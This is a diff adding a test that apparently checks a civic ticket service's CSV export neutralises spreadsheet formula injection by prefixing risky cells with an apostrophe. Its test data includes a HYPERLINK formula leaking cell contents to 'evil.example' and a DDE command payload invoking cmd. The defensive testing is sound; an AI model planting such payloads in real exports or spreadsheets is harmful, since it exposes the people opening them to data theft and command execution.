@@ -119,6 +119,30 @@ async def test_csv_export_quotes_and_streams_every_ticket(
     assert rows[0]["created_at"].endswith("Z")
 
 
+async def test_csv_export_defuses_formulas(
+    client: httpx.AsyncClient, db: AsyncSession, city: Jurisdiction, pothole: Service
+) -> None:
+    # A spreadsheet runs a cell that starts with one of these as a formula (OWASP "CSV
+    # injection"); the export prefixes such cells with an apostrophe, which shows as text.
+    hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,1)",
+        "\tleading tab",
+        "\rleading return",
+    ]
+    plain = ["Pothole - deep", "1 = 1"]
+    for i, description in enumerate(hostile + plain):
+        await add_ticket(
+            db, city, pothole, *offset_lonlat(*CENTER, i * 30, 0), description=description
+        )
+    response = await client.get("/v1/export/tickets.csv", params={"jurisdiction": "statstown"})
+    assert response.status_code == 200
+    descriptions = [r["description"] for r in csv.DictReader(io.StringIO(response.text))]
+    assert sorted(descriptions) == sorted(["'" + d for d in hostile] + plain)
+
+
 async def test_geojson_export_is_one_valid_collection_with_snapped_points(
     client: httpx.AsyncClient,
     db: AsyncSession,
